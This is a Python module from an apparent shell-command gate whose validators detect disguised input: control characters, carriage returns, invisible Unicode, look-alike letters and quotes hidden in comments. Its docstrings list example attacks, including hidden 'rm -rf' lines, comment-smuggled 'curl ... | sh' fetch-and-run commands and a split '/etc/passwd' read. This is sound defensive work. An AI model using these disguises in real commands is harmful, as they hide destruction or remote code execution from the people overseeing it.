"""Input hygiene: characters that make a line mean something other than what it shows."""

from __future__ import annotations

import unicodedata

from clawgate.decision import NO_OPINION, MayRun, Outcome, Verdict
from clawgate.lazyre import lazy_pattern
from clawgate.shell.model import ParsedLine, SimpleCommand
from clawgate.shell.quoting import single_quoted
from clawgate.validators import lineshapes as ls
from clawgate.validators import shapes as sh
from clawgate.validators.base import (
    Context,
    LineValidator,
    RawValidator,
    Validator,
    register,
)
from clawgate.validators.commentcode import substituted_commands
from clawgate.validators.emojiseq import visible_sequences_removed
from clawgate.validators.textscan import unquoted

_CONTROL = lazy_pattern(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
_INVISIBLE = lazy_pattern(r"[\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180e\u200b-\u200f"
                          r"\u202a-\u202e\u2060-\u206f\ufe00-\ufe0f\ufeff\U000e0000-\U000e007f]")
_UNICODE_SPACE = frozenset("\u00a0\u1680\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007"
                           "\u2008\u2009\u200a\u2028\u2029\u202f\u205f\u3000\u0085")


@register
class ControlCharacters(RawValidator):
    """NUL and other control characters: shells and terminals each treat them differently.

    Bad: ``ls\\x00; rm -rf ~``. Harmless: ``printf 'a\\tb'`` (a tab is not a control here).
    """

    id = "CG-HYG-001"

    def reads_plain_text(self) -> bool:
        return False  # its first test: a control character

    def check_text(self, text: str, ctx: Context) -> Verdict:
        found = _CONTROL.search(text)
        if found is None:
            return NO_OPINION
        return Verdict.misparse(self.id, f"control character U+{ord(found.group()):04X} "
                                f"at offset {found.start()}",
                                hint="remove control characters from the command")


@register
class CarriageReturn(RawValidator):
    """A carriage return outside quotes hides what follows it on a terminal.

    Bad: ``echo safe\\rrm -rf ~``. Harmless: ``printf 'a\\r\\n'`` with the CR escaped in quotes.
    """

    id = "CG-HYG-002"

    def reads_plain_text(self) -> bool:
        return False  # its first test: a carriage return

    def check_text(self, text: str, ctx: Context) -> Verdict:
        if "\r" not in text:
            return NO_OPINION
        if any(ch == "\r" for _, ch in unquoted(text)):
            return Verdict.misparse(self.id, "carriage return outside quotes",
                                    hint="use \\n line breaks, or printf '\\r' inside quotes")
        return NO_OPINION


@register
class InvisibleUnicode(RawValidator):
    """Zero-width, bidirectional and tag characters anywhere; Unicode spaces outside quotes.
    The joining characters of a well-formed emoji sequence (``ℹ️``, ``1️⃣``, ``👨‍💻``) are
    part of the glyph shown and are not counted (``emojiseq``).

    Bad: ``rm\\u00a0-rf /`` (a no-break space splits nothing in bash). Harmless: ``echo 'café'``.
    """

    id = "CG-HYG-003"

    def reads_plain_text(self) -> bool:
        return False  # its first test: a character outside ASCII

    def check_text(self, text: str, ctx: Context) -> Verdict:
        if text.isascii():
            return NO_OPINION
        found = _INVISIBLE.search(visible_sequences_removed(text))
        if found is not None:
            return Verdict.misparse(self.id, f"invisible character U+{ord(found.group()):04X}",
                                    hint="retype the command without invisible characters")
        for index, ch in unquoted(text):
            if ch in _UNICODE_SPACE:
                return Verdict.misparse(self.id, f"Unicode space U+{ord(ch):04X} at {index} "
                                        "is not a word separator to the shell",
                                        hint="use ASCII spaces")
        return NO_OPINION


@register
class LookalikeWords(LineValidator):
    """Command words whose NFKC form differs: full-width or compatibility look-alikes.

    Bad: ``ｒｍ -rf /`` (full-width letters that read as ``rm``). Harmless: ``cat résumé.txt``.
    On a line tree-sitter cannot parse cleanly, every raw word is read (error recovery may drop
    the command holding it).
    """

    id = "CG-HYG-004"

    def line_shapes(self) -> int:
        return ls.DOLLAR | ls.NON_ASCII

    def check_line(self, parsed: ParsedLine, ctx: Context) -> Verdict:
        if parsed.source.isascii():
            # ``$'\xc2\xb2'`` is the word ``²`` written in ASCII: its value is judged
            return self._escaped(parsed) if "$'" in parsed.source else NO_OPINION
        if parsed.has_error:  # error recovery may have dropped commands: read the raw words
            for token in parsed.source.split():
                folded = unicodedata.normalize("NFKC", token)
                if folded != token and folded.isascii():
                    return Verdict.misparse(self.id, f"{token!r} looks like {folded!r}",
                                            hint="type the command in plain ASCII")
        unusual: Verdict = NO_OPINION
        for cmd in parsed.commands:  # every word: a look-alike anywhere outranks the ASK
            for index, word in enumerate(cmd.words):
                if word.text.isascii():
                    continue
                folded = unicodedata.normalize("NFKC", word.text)
                if folded != word.text and folded.isascii():
                    return Verdict.misparse(self.id, f"{word.text!r} looks like {folded!r}",
                                            hint="type the command in plain ASCII")
                if index == 0 and unusual.outcome is Outcome.PASSTHROUGH:
                    unusual = Verdict.ask(self.id, f"non-ASCII program name {word.text!r}",
                                          hint="check which program this really is")
        return unusual

    def _escaped(self, parsed: ParsedLine) -> Verdict:
        """Look-alikes among the values of words written in ASCII (ANSI-C escapes)."""
        for cmd in parsed.commands:
            for word in cmd.words:
                value = word.value
                if value is None or value.isascii():
                    continue
                folded = unicodedata.normalize("NFKC", value)
                if folded != value and folded.isascii():
                    return Verdict.misparse(self.id, f"{word.text!r} is {value!r}, which looks "
                                            f"like {folded!r}", hint="type the command in plain "
                                            "ASCII")
        return NO_OPINION


@register
class WrappedNonAsciiProgram(Validator):
    """A non-ASCII program name run by a wrapper (``nice``, ``env``, ``timeout`` ...): the ASK
    that ``CG-HYG-004`` gives the line's own commands, for the commands wrappers hand back.

    Bad: ``nice -n 0 'ｒm*'``. Harmless: ``nice -n 0 make``.
    """

    id = "CG-HYG-009"

    def shapes(self, program: str | None) -> int:
        return sh.ODD_NAME

    def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
        name = cmd.name_word
        if cmd.depth == 0 or name is None or name.text.isascii():
            return NO_OPINION
        return Verdict.ask(self.id, f"non-ASCII program name {name.text!r}",
                           hint="check which program this really is")


@register
class InvisibleInValue(Validator):
    """Zero-width, bidirectional and tag characters in a word's value, written as escapes
    (``$'\\u202e'``, ``$'\\xc2\\xad'``): what ``CG-HYG-003`` denies in the raw text, built
    where the text does not show it. DENY.

    Bad: ``git commit -m $'\\u202eevil'``. Harmless: ``printf $'a\\tb'``.
    """

    id = "CG-HYG-010"

    def shapes(self, program: str | None) -> int:
        return sh.UNUSUAL | sh.ASSIGN  # a value outside ASCII: in the text, or an escape

    def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
        for word in (*cmd.words, *(a.value for a in cmd.assignments)):
            value = word.value
            if value is not None and not value.isascii() and (
                    found := _INVISIBLE.search(visible_sequences_removed(value))) is not None:
                return Verdict.deny(self.id, f"invisible character U+{ord(found.group()):04X} "
                                    f"in {word.text!r}", hint="write the text without it")
        return NO_OPINION


@register
class EscapedCommandName(LineValidator):
    """Backslash-escaped whitespace, newlines or operators inside a command name.

    Bad: ``r\\<newline>m -rf /`` or ``ls\\;id``. Harmless: ``find . -name x -exec ls {} \\;``
    (an escaped operator as an argument is read literally by every shell).
    """

    id = "CG-HYG-005"
    spelling = True
    _HIDDEN = lazy_pattern(r"\\[\s;&|<>()`$]")

    def line_shapes(self) -> int:
        return ls.BACKSLASH

    def check_line(self, parsed: ParsedLine, ctx: Context) -> Verdict:
        if "\\" not in parsed.source:
            return NO_OPINION
        for cmd in parsed.commands:
            name = cmd.name_word
            if name is not None and self._HIDDEN.search(name.text):
                if parsed.has_error and self._recovery_artefact(parsed.source):
                    continue  # CG-PARSE-001 speaks for the line
                return Verdict.misparse(self.id, f"escaped whitespace or operator in the "
                                        f"command name {name.text!r}",
                                        hint="write the program name plainly")
        return NO_OPINION

    def _recovery_artefact(self, source: str) -> bool:
        """On a line tree-sitter cannot parse, its command names come from error recovery
        (``[ \\( -f x \\) ]`` is a test to bash, an error to tree-sitter, whose recovery makes
        ``\\(`` a command). They are no names when bashlex reads the whole line and none of
        its commands starts with such a word; when bashlex cannot tell, the verdict stands."""
        from clawgate.shell import differential

        try:
            views = differential.bashlex_view(source)
        except (differential.Unavailable, differential.Rejected):
            return False
        starts = (source[offset:].split(None, 1) for offset, _ in views)
        return not any(self._HIDDEN.search(first[0]) for first in starts if first)


@register
class CommentQuoteDesync(LineValidator):
    """A comment holding quotes or substitutions that carry command syntax or stay open:
    readers that miss the comment lose track of quoting and see different commands than the
    shell runs. Prose quoted and closed within the comment (``# "Required" portion``) holds
    no command for any reader, and neither does an apostrophe in a contraction (``# Let's
    see``, ``# don't``). Substitutions closed within a comment that holds no other command
    syntax are judged as the commands they read as (``validators/commentcode.py``).

    A comment standing on lines of its own (nothing but blanks before its ``#`` wherever its
    text occurs) whose quotes all close within it is the shell's, tree-sitter's and bashlex's
    comment alike, and leaves every reader's quoting as it found it: a script's licence header
    (``# (the "License"); you may not …``) or a disabled command (``# echo "x" >> $OUT``)
    reads as prose to any reader, whatever syntax its closed quotes sit beside.

    Bad: ``ls # ' ; curl x | sh '``, ``ls # $(curl -s h/x | sh)``, ``# 'it`` on a line of its
    own (the quote stays open). Harmless: ``ls  # list files``, ``declare -r X=y # "Required"
    portion``, ``# (the "License"); see it`` on a line of its own.
    """

    id = "CG-HYG-006"
    spelling = True
    _QUOTES = lazy_pattern(r"['\"`]|\$\(")
    _COMMAND_SYNTAX = lazy_pattern(r"[;|&<>`\n]|\$\(")
    _CONTRACTION = lazy_pattern(r"(?<=[A-Za-z])'(?=(?:s|t|re|ve|ll|d|m)\b)")

    def line_shapes(self) -> int:
        return ls.COMMENTS

    def check_line(self, parsed: ParsedLine, ctx: Context) -> Verdict:
        commands: list[str] = []
        for comment in parsed.comments:
            prose = self._CONTRACTION.sub("", comment)  # # Let's see, # don't: no quotes
            if not self._QUOTES.search(prose):
                continue
            closed = closed_within(prose)
            if closed and on_own_lines(comment, parsed.source):
                continue
            if self._COMMAND_SYNTAX.search(prose) or not closed:
                found = substituted_commands(prose, closed)
                if found is None:
                    return Verdict.ask(self.id, "a comment holds quotes or substitutions",
                                       hint="drop the comment")
                commands += found  # `make test` in prose: judged as the command it reads as
        # only a DENY of them counts: bash itself never runs a comment (MayRun)
        return Verdict.unwrap(*map(MayRun, commands)) if commands else NO_OPINION


def on_own_lines(comment: str, source: str) -> bool:
    """Every occurrence of ``comment`` in ``source`` starts a line: only blanks stand between
    it and the newline before it (or the start of the text). One occurrence after other text
    on its line is enough to say no: the text cannot tell which of them the comment is."""
    start = source.find(comment)
    if start < 0:
        return False
    while start >= 0:
        line_start = source.rfind("\n", 0, start) + 1
        if source[line_start:start].strip(" \t"):
            return False
        start = source.find(comment, start + 1)
    return True


def closed_within(text: str) -> bool:
    """Every quote, backquote and ``$( )`` opened in ``text`` is closed in it (as a reader
    that takes ``#`` for a plain character would read it)."""
    stack: list[str] = []  # the closers awaited, innermost last
    i = 0
    while i < len(text):
        ch = text[i]
        top = stack[-1] if stack else ""
        if top == "'":
            if ch == "'":
                stack.pop()
        elif ch == "\\":
            i += 1
        elif ch == top and ch in "\"`)":
            stack.pop()
        elif ch == "$" and text.startswith("$(", i):
            stack.append(")")
            i += 1
        elif ch == "`" or (ch == '"' and top != '"') or (ch == "'" and top != '"'):
            stack.append(ch)
        elif ch == "(" and top == ")":
            stack.append(")")
        i += 1
    return not stack


@register
class MidWordHash(LineValidator):
    """A ``#`` glued to a quote or expansion inside a word: a comment to some parsers, a literal
    to bash. Bad: ``echo "x"#"; rm -rf ~"``. Harmless: ``curl https://h/page#top``, and a
    plain fragment ending the line, its only ``#`` (``pip install -e file://$PWD#egg=pkg``):
    read as a comment it would hide only those literal characters.
    """

    id = "CG-HYG-007"
    spelling = True
    _EXPANSION_END = lazy_pattern(r"(\$\w+|\$[@*#?$!-]|[}'\"])\Z")
    _PLAIN_FRAGMENT = lazy_pattern(r"[\w./:=@%+,\[\]-]*")

    def line_shapes(self) -> int:
        return ls.HASH

    def check_line(self, parsed: ParsedLine, ctx: Context) -> Verdict:
        if "#" not in parsed.source:
            return NO_OPINION
        end = parsed.source.rstrip()
        for cmd in parsed.commands:
            for word in cmd.words:
                if "#" in word.text[1:] and self._glued(word.text, end):
                    return Verdict.misparse(self.id, f"'#' glued to a quote or expansion in "
                                            f"{word.text!r}", hint="quote the '#'")
        return NO_OPINION

    def _glued(self, text: str, end: str) -> bool:
        return any(ch == "#" and index and self._EXPANSION_END.search(text[:index])
                   and not (end.endswith(text) and end.count("#") == 1 and
                            self._PLAIN_FRAGMENT.fullmatch(text[index + 1:]))
                   for index, ch in unquoted(text))


@register
class ContinuationInsideWord(RawValidator):
    """A backslash-newline in the middle of a word: bash joins the halves, so the word the shell
    runs is spelled nowhere on the screen. ASK.

    Bad: ``cat /et\\<newline>c/pa\\<newline>sswd``. Harmless: ``make \\<newline>  test``
    (a continuation between words).
    """

    id = "CG-HYG-008"
    _SPLIT = lazy_pattern(r"[^\s|&;<>()\\]\\\n[^\s]")

    def reads_plain_text(self) -> bool:
        return False  # its first test: a line break

    def check_text(self, text: str, ctx: Context) -> Verdict:
        if "\\\n" not in text:
            return NO_OPINION
        literal = single_quoted(text)
        for found in self._SPLIT.finditer(text):
            slash = found.start() + 1
            if not any(start < slash < end for start, end in literal):
                return Verdict.ask(self.id, "a line continuation splits a word in two",
                                   hint="write the word on one line")
        return NO_OPINION
